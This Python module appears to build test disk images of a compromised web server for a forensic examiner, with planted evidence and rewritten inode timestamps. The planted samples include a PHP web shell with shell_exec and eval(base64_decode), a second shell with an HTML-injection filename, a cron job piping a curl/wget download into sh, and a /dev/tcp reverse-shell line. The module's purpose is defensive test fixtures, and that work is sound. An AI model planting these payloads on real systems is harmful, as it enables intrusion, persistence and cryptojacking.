"""Real disk images of a compromised web server, built without root (tests and the local simulation).

`build_compromised_webserver_tree` writes a small Linux tree with planted evidence and
realistic times; `build_ext4_image` / `build_xfs_image` turn it into a file system image with
the distributions' own tools, and `wrap_in_gpt` / `wrap_in_mbr` put that file system into a
partitioned disk image as EBS would hold it.

Neither mkfs can set change or birth times (the kernel sets ctime, and mkfs stamps its own
clock), nor owners other than the builder's own without root. So after mkfs the builders
write each inode's owner and all four times straight into the image (`debugfs -w` for ext4,
`xfs_db -x` for XFS): an examination then sees the times an attacker's activity would leave,
not the time the test ran.
"""

from __future__ import annotations

import base64
import hashlib
import os
import shutil
import stat
import struct
import subprocess
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

SECTOR = 512
PARTITION_START = 1024 * 1024
XFS_MIN_MIB = 300
# mkfs.xfs -m bigtime=1 (the default of current xfsprogs) stores each time as ns since 1901-12-13.
_XFS_BIGTIME_EPOCH_OFFSET = 2**31
_DISK_SIGNATURE = 0x1F0E0D0C

WEB_SHELL = b"""<?php
// image cache helper
if (isset($_REQUEST['c'])) { echo '<pre>' . shell_exec($_REQUEST['c']) . '</pre>'; }
@eval(base64_decode($_POST['x']));
?>
"""
CRON_DOWNLOADER = b"""# system update check
SHELL=/bin/sh
*/5 * * * * root (curl -fsSL http://203.0.113.66/k.sh || wget -q -O- http://203.0.113.66/k.sh) | sh >/dev/null 2>&1
"""
MINER = (
    b"\x7fELF\x02\x01\x01\x00"
    + b"\x00" * 8
    + b"\x02\x00\x3e\x00"
    + b"\x00" * 44
    + b"xmrig/6.21.0\x00--donate-level=0\x00stratum+tcp://pool.example.net:3333\x00"
    + b"\x00" * 64
)
LEGIT_KEY = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx0ZWdpdGltYXRlLWFkbWluLWtleS1mb3ItdGVzdHM ops@bastion\n"
ATTACKER_KEY = b"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDattackerattackerattackerattacker root@kali\n"
REVERSE_SHELL_HISTORY = b"""ls -la
cd /var/www/html/uploads
bash -i >& /dev/tcp/203.0.113.66/4444 0>&1
history -c
"""
HOSTILE_NAME = "<script>alert(1)<!--.php"
ATTACKER_ADDRESS = "198.51.100.23"


def openssh_fingerprint(public_key_line: bytes) -> str:
    """`ssh-keygen -l -E sha256` of one authorized_keys line: SHA256 of the key blob, base64 unpadded."""
    blob = public_key_line.split()[1]
    raw = base64.b64decode(blob + b"=" * (-len(blob) % 4))
    return "SHA256:" + base64.b64encode(hashlib.sha256(raw).digest()).decode().rstrip("=")


def _syslog(moment: datetime, message: str) -> bytes:
    # Classic syslog: no year, day of month padded with a space.
    return f"{moment:%b} {moment.day:2d} {moment:%H:%M:%S} web-01 {message}\n".encode()


ROOT_UID = 0
WWW_DATA_UID = 33


@dataclass(frozen=True)
class TreeEntry:
    """What the image must record for one path; `planted` marks the attacker's doing."""

    path: str
    mode: int
    uid: int
    gid: int
    atime: int
    mtime: int
    ctime: int
    crtime: int
    planted: bool = False
    why: str = ""


@dataclass
class PlantedTree:
    root: Path
    incident_time: datetime
    entries: dict[str, TreeEntry] = field(default_factory=dict)

    @property
    def planted(self) -> list[TreeEntry]:
        return [entry for entry in self.entries.values() if entry.planted]

    @property
    def incident_window(self) -> tuple[datetime, datetime]:
        return self.incident_time - timedelta(hours=1), self.incident_time + timedelta(hours=6)


def _epoch(moment: datetime) -> int:
    return int(moment.astimezone(UTC).timestamp())


def build_compromised_webserver_tree(directory: Path, incident_time: datetime) -> PlantedTree:
    """A small Debian web server as an attacker left it at `incident_time` (UTC); returns what is where."""
    directory.mkdir(parents=True, exist_ok=True)
    tree = PlantedTree(root=directory, incident_time=incident_time)
    installed = incident_time - timedelta(days=240)
    configured = incident_time - timedelta(days=200, hours=5)
    at = incident_time

    def put(
        path: str,
        content: bytes | None,
        mode: int,
        *,
        born: datetime,
        modified: datetime | None = None,
        accessed: datetime | None = None,
        uid: int = ROOT_UID,
        gid: int | None = None,
        planted: bool = False,
        why: str = "",
    ) -> None:
        modified = modified or born
        accessed = accessed or modified
        target = directory / path.lstrip("/")
        if content is None:
            target.mkdir(parents=True, exist_ok=True)
        else:
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(content)
        target.chmod(stat.S_IMODE(mode))
        tree.entries[path] = TreeEntry(
            path=path,
            mode=mode,
            uid=uid,
            gid=uid if gid is None else gid,
            atime=_epoch(accessed),
            mtime=_epoch(modified),
            ctime=_epoch(modified),
            crtime=_epoch(born),
            planted=planted,
            why=why,
        )

    d, f = stat.S_IFDIR, stat.S_IFREG
    for path in (
        "/etc",
        "/etc/cron.d",
        "/etc/cron.daily",
        "/etc/ssh",
        "/root",
        "/home",
        "/home/deploy",
        "/usr",
        "/usr/sbin",
        "/var",
        "/var/www",
        "/var/www/html",
        "/var/log",
        "/var/log/nginx",
    ):
        put(path, None, d | 0o755, born=installed)
    put("/tmp", None, d | 0o1777, born=installed, modified=at + timedelta(minutes=7))
    put("/root/.ssh", None, d | 0o700, born=configured)
    put("/home/deploy/.ssh", None, d | 0o700, born=configured, uid=1000)
    put("/var/www/html/uploads", None, d | 0o755, born=configured, modified=at + timedelta(minutes=2), uid=WWW_DATA_UID)

    put(
        "/etc/passwd",
        b"root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
        b"deploy:x:1000:1000::/home/deploy:/bin/bash\n",
        f | 0o644,
        born=installed,
        modified=configured,
        accessed=at - timedelta(minutes=30),
    )
    put("/etc/group", b"root:x:0:\nwww-data:x:33:\ndeploy:x:1000:\n", f | 0o644, born=installed, modified=configured)
    put("/etc/hostname", b"web-01\n", f | 0o644, born=installed)
    put(
        "/etc/crontab",
        b"SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
        b"17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
        f | 0o644,
        born=installed,
    )
    put(
        "/etc/cron.d/e2scrub_all",
        b"30 3 * * 0 root test -e /run/systemd/system || "
        b"SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n",
        f | 0o644,
        born=installed,
    )
    put("/etc/cron.daily/logrotate", b"#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n", f | 0o755, born=installed)
    put(
        "/etc/ssh/sshd_config",
        b"PermitRootLogin prohibit-password\nPasswordAuthentication no\n",
        f | 0o644,
        born=installed,
        modified=configured,
    )
    put("/usr/sbin/nginx", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120, f | 0o755, born=installed)
    put(
        "/var/www/html/index.html",
        b"<!doctype html><title>web-01</title><h1>It works</h1>\n",
        f | 0o644,
        born=configured,
        accessed=at + timedelta(minutes=1),
    )
    put("/home/deploy/.ssh/authorized_keys", LEGIT_KEY, f | 0o600, born=configured, uid=1000)
    put("/home/deploy/.bashrc", b"export PATH=$HOME/bin:$PATH\n", f | 0o644, born=configured, uid=1000)
    put(
        "/var/log/nginx/access.log",
        b"198.51.100.23 - - ["
        + at.strftime("%d/%b/%Y:%H:%M:%S +0000").encode()
        + b'] "POST /upload.php HTTP/1.1" 200 31 "-" "python-requests/2.31"\n',
        f | 0o640,
        born=configured,
        modified=at + timedelta(minutes=9),
        why="the upload's request is its only line, yet it was modified nine minutes later (lines removed)",
    )
    put(
        "/var/log/nginx/error.log",
        b"",
        f | 0o640,
        born=configured,
        modified=at + timedelta(minutes=9),
        why="emptied together with the access log",
    )
    login = at + timedelta(minutes=10)
    put(
        "/var/log/auth.log",
        _syslog(
            at - timedelta(days=3),
            f"sshd[902]: Accepted publickey for deploy from 10.20.1.15 port 51022 ssh2: "
            f"ED25519 {openssh_fingerprint(LEGIT_KEY)}",
        )
        + _syslog(
            login,
            f"sshd[1422]: Accepted publickey for root from {ATTACKER_ADDRESS} port 50522 ssh2: "
            f"RSA {openssh_fingerprint(ATTACKER_KEY)}",
        )
        + _syslog(login, "sshd[1422]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)"),
        f | 0o640,
        born=configured,
        modified=login,
        why="the attacker logs in as root with the key added four minutes earlier",
    )

    put(
        "/var/www/html/uploads/.cache.php",
        WEB_SHELL,
        f | 0o644,
        born=at + timedelta(minutes=2),
        uid=WWW_DATA_UID,
        planted=True,
        why="PHP web shell uploaded through the upload form",
    )
    put(
        f"/var/www/html/uploads/{HOSTILE_NAME}",
        b"<?php system($_GET['cmd']); ?>\n",
        f | 0o644,
        born=at + timedelta(minutes=3),
        uid=WWW_DATA_UID,
        planted=True,
        why="second web shell whose name is HTML, to prove reports escape file names",
    )
    put(
        "/etc/cron.d/sysupdate",
        CRON_DOWNLOADER,
        f | 0o644,
        born=at + timedelta(minutes=5),
        planted=True,
        why="cron entry downloading a script and piping it to sh",
    )
    put(
        "/root/.ssh/authorized_keys",
        LEGIT_KEY + ATTACKER_KEY,
        f | 0o600,
        born=configured,
        modified=at + timedelta(minutes=6),
        planted=True,
        why="attacker's SSH key appended for root",
    )
    put("/tmp/.X11-unix", None, d | 0o1777, born=installed, modified=at + timedelta(minutes=7))
    put(
        "/tmp/.X11-unix/kworkerd",
        MINER,
        f | 0o4755,
        born=at + timedelta(minutes=7),
        planted=True,
        why="SUID crypto-miner disguised as a kernel thread in a hidden directory",
    )
    put(
        "/root/.bash_history",
        REVERSE_SHELL_HISTORY,
        f | 0o600,
        born=configured,
        modified=at + timedelta(minutes=8),
        planted=True,
        why="reverse shell to the attacker's host",
    )

    # Children first: writing a file changes its directory's times, which we set last.
    for path in sorted(tree.entries, key=lambda p: p.count("/"), reverse=True):
        entry = tree.entries[path]
        os.utime(directory / path.lstrip("/"), (entry.atime, entry.mtime), follow_symlinks=False)
    return tree


def _tree_entries(tree: PlantedTree | Path) -> tuple[Path, dict[str, TreeEntry]]:
    """The image's metadata: the planted tree's own, or (plain directory) what lstat says, ctime = mtime."""
    if isinstance(tree, PlantedTree):
        return tree.root, tree.entries
    entries: dict[str, TreeEntry] = {}
    for source in sorted(tree.rglob("*")):
        info = source.lstat()
        path = "/" + source.relative_to(tree).as_posix()
        entries[path] = TreeEntry(
            path=path,
            mode=info.st_mode,
            uid=info.st_uid,
            gid=info.st_gid,
            atime=int(info.st_atime),
            mtime=int(info.st_mtime),
            ctime=int(info.st_mtime),
            crtime=int(info.st_mtime),
        )
    return tree, entries


def _run(args: list[str]) -> subprocess.CompletedProcess[bytes]:
    done = subprocess.run(args, capture_output=True, check=False)
    if done.returncode != 0:
        raise RuntimeError(f"{args[0]} failed ({done.returncode}): {done.stderr.decode(errors='replace')}")
    return done


def _quote_debugfs(path: str) -> str:
    if '"' in path or "\n" in path:
        raise ValueError(f"debugfs cannot address {path!r}")
    return f'"{path}"'


def build_ext4_image(tree: PlantedTree | Path, path: Path, size_mib: int = 16) -> Path:
    """`mkfs.ext4 -d tree` into a sparse file, then owners and all four times written per inode."""
    root, entries = _tree_entries(tree)
    path.unlink(missing_ok=True)
    with path.open("wb") as image:
        image.truncate(size_mib * 1024 * 1024)
    _run(["mkfs.ext4", "-q", "-F", "-E", "root_owner=0:0", "-L", "root", "-d", str(root), str(path)])
    oldest = min((e.crtime for e in entries.values()), default=0)
    commands = [
        f"sif {_quote_debugfs(p)} {field} @{value}"
        for p in ("/", "/lost+found")
        for field, value in (("atime", oldest), ("mtime", oldest), ("ctime", oldest), ("crtime", oldest))
    ]
    for entry in entries.values():
        target = _quote_debugfs(entry.path)
        commands += [
            f"sif {target} uid {entry.uid}",
            f"sif {target} gid {entry.gid}",
            f"sif {target} atime @{entry.atime}",
            f"sif {target} mtime @{entry.mtime}",
            f"sif {target} ctime @{entry.ctime}",
            f"sif {target} crtime @{entry.crtime}",
        ]
    script = path.with_name(path.name + ".debugfs")
    script.write_text("\n".join(commands) + "\n")
    try:
        _run(["debugfs", "-w", "-f", str(script), str(path)])
    finally:
        script.unlink()
    return path


def _proto_mode(mode: int) -> str:
    kind = {stat.S_IFDIR: "d", stat.S_IFREG: "-", stat.S_IFLNK: "l"}.get(stat.S_IFMT(mode))
    if kind is None:
        raise ValueError(f"the XFS protofile builder handles files, directories and symlinks, not {oct(mode)}")
    return f"{kind}{'u' if mode & stat.S_ISUID else '-'}{'g' if mode & stat.S_ISGID else '-'}{mode & 0o777:03o}"


def write_xfs_protofile(root: Path, entries: dict[str, TreeEntry], protofile: Path) -> None:
    """mkfs.xfs's prototype file (xfs_mkfs(8) "-p"): a nested listing of names, modes, owners, sources."""
    lines = ["irforensics", "0 0", f"d--755 {ROOT_UID} {ROOT_UID}"]

    def listing(directory: Path, depth: int) -> None:
        for source in sorted(directory.iterdir()):
            path = "/" + source.relative_to(root).as_posix()
            entry = entries[path]
            if any(c.isspace() for c in source.name):
                raise ValueError(f"mkfs.xfs protofiles cannot hold names with white space: {path!r}")
            head = f"{' ' * depth}{source.name} {_proto_mode(entry.mode)} {entry.uid} {entry.gid}"
            if source.is_symlink():
                lines.append(f"{head} {os.readlink(source)}")
            elif source.is_dir():
                lines.append(head)
                listing(source, depth + 1)
                lines.append(" " * (depth + 1) + "$")
            else:
                lines.append(f"{head} {source.resolve()}")

    listing(root, 1)
    lines.append("$")
    protofile.write_text("\n".join(lines) + "\n")


def _xfs_time(epoch: int) -> str:
    return f"#{(epoch + _XFS_BIGTIME_EPOCH_OFFSET) * 1_000_000_000:016x}"


def build_xfs_image(tree: PlantedTree | Path, path: Path, size_mib: int = XFS_MIN_MIB) -> Path:
    """`mkfs.xfs -p protofile` into a sparse file (xfsprogs refuses under 300 MiB), then times per inode."""
    import pyfsxfs

    from examiner.timeline import walk_xfs

    root, entries = _tree_entries(tree)
    path.unlink(missing_ok=True)
    with path.open("wb") as image:
        image.truncate(max(size_mib, XFS_MIN_MIB) * 1024 * 1024)
    protofile = path.with_name(path.name + ".proto")
    write_xfs_protofile(root, entries, protofile)
    try:
        _run(["mkfs.xfs", "-q", "-f", "-m", "bigtime=1", "-L", "root", "-p", str(protofile), str(path)])
    finally:
        protofile.unlink()
    volume = pyfsxfs.volume()
    volume.open(str(path))
    try:
        inodes = {p: entry.inode_number for p, entry in walk_xfs(volume)}
        root_inode = volume.get_root_directory().inode_number
    finally:
        volume.close()
    oldest = min((e.crtime for e in entries.values()), default=0)
    commands: list[str] = []
    for inode, entry in [(root_inode, None), *((inodes[p], e) for p, e in entries.items())]:
        times = (oldest,) * 4 if entry is None else (entry.atime, entry.mtime, entry.ctime, entry.crtime)
        commands += ["-c", f"inode {inode}"]
        for field_name, value in zip(("core.atime", "core.mtime", "core.ctime", "v3.crtime"), times, strict=True):
            commands += ["-c", f"write {field_name} {_xfs_time(value)}"]
        # Protofiles have no sticky bit (/tmp is 1777), so the mode is written afterwards too.
        if entry is not None and entry.mode & stat.S_ISVTX:
            commands += ["-c", f"write core.mode 0{entry.mode:o}"]
    _run(["xfs_db", "-x", *commands, str(path)])
    return path


def copy_sparse(source: Path, target: Path, offset: int) -> None:
    """Copy `source` into `target` at `offset`, skipping holes so sparse images stay sparse."""
    with source.open("rb") as src, target.open("r+b") as dst:
        descriptor = src.fileno()
        size = os.fstat(descriptor).st_size
        position = 0
        while position < size:
            try:
                data = os.lseek(descriptor, position, os.SEEK_DATA)
            except OSError:
                break
            hole = os.lseek(descriptor, data, os.SEEK_HOLE)
            src.seek(data)
            dst.seek(offset + data)
            remaining = hole - data
            while remaining:
                chunk = src.read(min(remaining, 4 * 1024 * 1024))
                dst.write(chunk)
                remaining -= len(chunk)
            position = hole


def _new_disk(fs_image: Path, out_path: Path) -> int:
    fs_size = fs_image.stat().st_size
    if fs_size % SECTOR:
        raise ValueError(f"{fs_image} is not a whole number of sectors")
    out_path.unlink(missing_ok=True)
    with out_path.open("wb") as disk:
        # 1 MiB before the partition (alignment, as installers do) and 1 MiB after (GPT backup header).
        disk.truncate(PARTITION_START + fs_size + 1024 * 1024)
    return fs_size // SECTOR


def wrap_in_gpt(fs_image: Path, out_path: Path, *, name: str = "root") -> Path:
    """A GPT disk with one Linux partition at 1 MiB holding `fs_image` (sgdisk on a plain file, no root)."""
    sectors = _new_disk(fs_image, out_path)
    first = PARTITION_START // SECTOR
    if shutil.which("sgdisk") is None:
        raise RuntimeError("sgdisk (gdisk) is needed to write a GPT")
    _run(["sgdisk", "-n", f"1:{first}:{first + sectors - 1}", "-t", "1:8300", "-c", f"1:{name}", str(out_path)])
    copy_sparse(fs_image, out_path, PARTITION_START)
    return out_path


def wrap_in_mbr(fs_image: Path, out_path: Path) -> Path:
    """An MBR (DOS) disk with one Linux (0x83) primary partition at 1 MiB; the 512-byte table written here."""
    sectors = _new_disk(fs_image, out_path)
    first = PARTITION_START // SECTOR
    # Status, CHS start (unused: LBA only), type 0x83, CHS end, first LBA, sector count.
    entry = struct.pack("<B3sB3sII", 0x00, b"\xfe\xff\xff", 0x83, b"\xfe\xff\xff", first, sectors)
    boot_sector = b"\x00" * 440 + struct.pack("<IH", _DISK_SIGNATURE, 0) + entry + b"\x00" * 48 + b"\x55\xaa"
    with out_path.open("r+b") as disk:
        disk.write(boot_sector)
    copy_sparse(fs_image, out_path, PARTITION_START)
    return out_path
